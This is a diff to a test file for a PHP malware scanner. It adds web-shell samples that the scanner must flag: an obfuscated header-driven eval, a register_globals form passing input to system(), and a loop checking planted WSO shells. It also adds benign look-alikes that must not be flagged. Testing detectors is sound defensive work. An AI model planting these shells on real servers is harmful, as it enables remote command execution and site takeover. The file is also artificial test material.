@@ -43,6 +43,9 @@ const MALICIOUS: [string, string, string][] = [
   ['a register_globals command form whose echoed text says "as" (S36B)', '/var/www/html/v11.php', `<form method="post"><input name="cmd"></form>\n<?php\nif (isset($cmd)) { echo "<h3>Output as text: $cmd</h3>"; system($cmd); }\n`],
   ['a function name decoded from base64 joined from bare words of any case, called on request input (held-out set H16)', '/var/www/html/w1.php', `<?php $f=base64_decode(Y.X.N.z.Z.X.J0);$f(($_POST[$_GET[a]]));?>\n`],
   ['a panel posting WSO\'s remote-control action to a list of planted shells and reading their version (H16)', '/var/www/html/w2.php', `<?php\nforeach (file('shells.txt') as $line) {\n  [$url, $pass] = explode('|', rtrim($line));\n  $post = http_build_query(array('pass' => $pass, 'a' => 'RC'));\n  $r = @unserialize(file_get_contents($url, false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $post)))));\n  if (is_array($r) && isset($r['wso_version'])) echo htmlspecialchars($url), "\\n";\n}\n`],
+  ['eval of a header read by getenv, both names built by |, ^ and & of literals and bare words (held-out set H17)', '/var/www/html/x1.php', `<?php\n$d='B!$E&T'|'f\`4!dP';$y=WuTt.'>g'&"k/]*,f";$v=$d|$y;\n$h='HTTP_X_'.'NOTE';\nif ($v('HTTP_X_KEY') == 'x') eval($v($h));\n`],
+  ['a register_globals command form beside a closure of its own taking $cmd that runs nothing (S36C-14)', '/var/www/html/x2.php', `<form method="post"><input name="cmd"></form>\n<?php\n$fmt = function ($cmd) { return htmlspecialchars($cmd); };\nif (isset($cmd)) { echo $fmt($cmd); system($cmd); }\n`],
+  ['a panel posting WSO\'s remote-control action in lower case as a body of its own (S36C-10, -11)', '/var/www/html/x3.php', `<?php\nforeach (file('list.txt') as $u) {\n  $ch = curl_init(trim($u));\n  curl_setopt($ch, CURLOPT_POSTFIELDS, 'a=rc&p1=');\n  $r = @unserialize(curl_exec($ch));\n  if (isset($r['wso_version'])) echo $u;\n}\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -73,6 +76,9 @@ const LOOKALIKES: [string, string, string][] = [
   ['a status page whose closure takes a $cmd parameter, beside a select named cmd (S36B-12)', '/var/www/html/status2.php', `<?php\n$checks = ['uptime' => 'uptime', 'disk' => 'df -h'];\n$run = function (string $cmd): string { return (string) shell_exec("$cmd 2>&1"); };\n$key = isset($_GET['cmd'], $checks[$_GET['cmd']]) ? $_GET['cmd'] : 'uptime';\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?= htmlspecialchars($run($checks[$key])) ?></pre>\n`],
   ['a development helper downloading composer.phar from its site and running an update (H16\'s benign php-crud-api helper)', '/var/www/html/update-deps.php', `<?php\nif (!file_exists('composer.phar')) {\n  $composer = file_get_contents('https://getcomposer.org/composer.phar');\n  file_put_contents('composer.phar', $composer);\n}\nexec('php composer.phar update');\n`],
   ['constants joined by ".", defined by the code, printed', '/var/www/html/consts.php', `<?php\ndefine('A', 'x'); define('B', 'y');\necho A . B . PHP_EOL . htmlspecialchars($_GET['q'] ?? '');\n`],
+  ['error reporting set from constants joined by & and ~, and a header printed through getenv of a name held in a variable', '/var/www/html/errs.php', `<?php\nerror_reporting(E_ALL & ~E_NOTICE | E_STRICT);\n$h = 'HTTP_USER_AGENT';\necho htmlspecialchars((string) getenv($h));\n$flags = FILTER_FLAG_STRIP_LOW | FILTER_FLAG_STRIP_HIGH;\necho filter_var('x', FILTER_UNSAFE_RAW, $flags);\n`],
+  ['a contact form mailing the visitor a copy, after a loop over a template whose text has an apostrophe (S36C-1)', '/var/www/html/copy.php', `<?php\n$rows = ['name', 'email'];\nforeach ($rows as $r) { echo "<label>Visitor's $r</label>"; }\n$email = $_POST['email'];\n$message = $_POST['message'];\nmail($email, 'Copy of your message', $message . "\\n-- Example", 'From: web@example.com');\n`],
+  ['a self-extracting installer checking that eval works with a literal, its archive after __halt_compiler (S36C-3)', '/var/www/html/setup.php', `<?php\nif (!@eval('return true;')) die('eval disabled');\n$zip = base64_decode(file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__));\nfile_put_contents(sys_get_temp_dir() . '/cms.zip', $zip);\n__halt_compiler();\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 41 + 3) % 256)).toString('base64')}`],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -82,7 +88,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 34));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 37));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -90,5 +96,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 27));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 30));
 });
